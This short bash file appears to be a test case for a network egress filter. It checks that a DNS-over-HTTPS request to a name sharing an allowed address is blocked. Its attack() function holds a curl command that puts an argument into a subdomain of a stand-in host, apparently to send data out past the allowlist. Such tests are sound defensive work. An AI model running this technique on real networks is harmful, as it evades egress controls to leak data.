# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='DNS over HTTPS to a name that shares an allowed address' origin='RESEARCH §2.43, 55'
sink=s reason=not_in_allowlist
attack() { client sh -c 'getent ahosts allowed.test > /dev/null; curl -4 -sk --max-time 20 --resolve "$1.dns.test:443:198.18.2.80" "https://$1.dns.test/dns-query"' sh "$1"; }
